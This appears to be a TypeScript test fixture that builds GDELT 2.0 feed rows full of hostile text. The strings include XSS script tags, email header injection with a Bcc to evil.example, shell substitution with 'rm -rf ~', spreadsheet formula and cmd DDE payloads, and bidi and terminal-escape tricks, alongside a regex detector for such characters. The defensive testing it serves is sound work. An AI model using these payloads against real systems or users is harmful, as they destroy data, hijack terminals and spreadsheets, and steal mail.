/** Texts that a feed could send to harm whoever shows, mails, tabulates or logs them; each has the word `hostile` in it. */
export const HOSTILE = {
  html: '"><script>alert("hostile")</script><img src=x onerror=alert(1)>',
  header: 'a%0d%0aX-Hostile: 1 \u0085Bcc: hostile@evil.example \u2028b',
  shell: `$(touch hostile); \`touch hostile\` | rm -rf ~ && "'\\`,
  equals: '=HYPERLINK("https://evil.example/hostile","x")',
  plus: "+1+cmd|' /C hostile'!A0",
  minus: "-2+3+cmd|' /C hostile'!A0",
  at: '@SUM(1+1)*hostile',
  bidi: 'abc\u202Egnp.hostile\u202C\u2066x\u2069\u200F\u061C',
  nul: 'before\0after hostile',
  ansi: '\u001B[2J\u001B[31mhostile\u001B]0;title\u0007\u009B31m',
  unseen: 'a\u200Bb\u00ADc\uFEFFd\u2029e\u{E0041}hostile',
  overlong: `hostile${'x'.repeat(6_000)}`,
} as const

/** What cannot stand within a cell of a feed with tabs, but can in a CSV with quotes. */
export const HOSTILE_LINES = [
  '\r\nX-Hostile: 1\r\n\r\n<script>hostile</script>',
  '\t=1+hostile',
  '\r=1+hostile',
] as const

/** Text columns of GDELT 2.0 that decide nothing: names, religions, places. */
const FREE = [3, 4, 6, 9, 10, 11, 16, 19, 20, 21, 36, 37, 38, 39, 42, 43, 44, 45, 46, 47, 50, 51, 52, 53, 54, 55, 58]
const COUNTRY = { source: 7, target: 17 } as const
/** The actor's code, which is kept only to see that there is one; types, which say who acted for the state. */
const [CODES, TYPES] = [
  [5, 15],
  [12, 13, 14, 22, 23, 24],
]

interface HostileRow {
  readonly id: number
  readonly source: string
  readonly text: string
  readonly url: string
  readonly code: string
  /** Whether the types say it, too: then nobody acts for the state. */
  readonly types?: boolean
}

/** A row of GDELT 2.0 of 2 January 2020 toward Germany, in which every text says the same. */
export function hostileRow({ id, source, text, url, code, types = false }: HostileRow): string {
  const cells = Array.from({ length: 61 }, () => '')
  for (const at of [...FREE, ...CODES, ...(types ? TYPES : [])]) cells[at] = text
  Object.assign(cells, { 0: String(id), 1: '20200102', [COUNTRY.source]: source, [COUNTRY.target]: 'DEU' })
  return Object.assign(cells, { 26: code, 59: '20200102120000', 60: url }).join('\t')
}

/** Whether a text would be obeyed by a terminal, or read in another direction than it is written. */
export function obeyed(text: string): readonly string[] {
  return text.match(/(?!\r?\n)\p{Cc}|[\u061C\u200E\u200F\u2028-\u202E\u2066-\u2069]/gu) ?? []
}
